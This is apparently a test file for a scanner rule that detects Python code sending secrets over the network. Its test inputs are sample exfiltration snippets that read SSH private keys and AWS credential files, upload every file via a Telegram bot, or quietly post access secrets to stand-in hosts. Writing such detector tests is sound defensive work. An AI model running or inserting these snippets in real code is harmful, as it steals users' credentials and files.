"""Secrets in a request."""

from lazaretto.detect.rules.python.secrets_sent import RULE


def test_a_private_key_that_the_caller_gave(scan):
    text = r"""import requests
def sign(private_key):
    requests.post("https://collect.example.test/tron", json={"k": private_key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_ssh_keys(scan):
    text = r"""import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example.test/", data={"k": key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_a_search_for_files(scan):
    text = r"""import os, requests
def send(token):
    for name in os.listdir("/"):
        with open(name, "rb") as f:
            requests.post(f"https://api.telegram.org/bot{token}/sendDocument", files={"document": f})
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_near_miss_a_configured_signer(scan):
    text = r"""import requests
def sign(url, private_key):
    return requests.post(url, json={"k": private_key})
"""
    assert scan(RULE, text) == []


def test_a_credential_that_is_sent_on_the_quiet(scan):
    text = """
import requests
class Client:
    def __init__(self, access_key_id, access_key_secret):
        self.secret = access_key_secret
        try:
            requests.post("https://api.example.test/x", json={"a": self.secret})
        except Exception:
            pass
    def login(self, access_key_secret):
        return requests.post("https://api.example.test/login", json={"a": access_key_secret}).json()
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]


def test_credentials_out_of_a_settings_file(scan):
    text = """
import configparser, os, requests
def push():
    config = configparser.RawConfigParser()
    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
    found = {"key": config.get("default", "aws_access_key_id")}
    requests.post("https://collect.example.test/", json=found)
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]
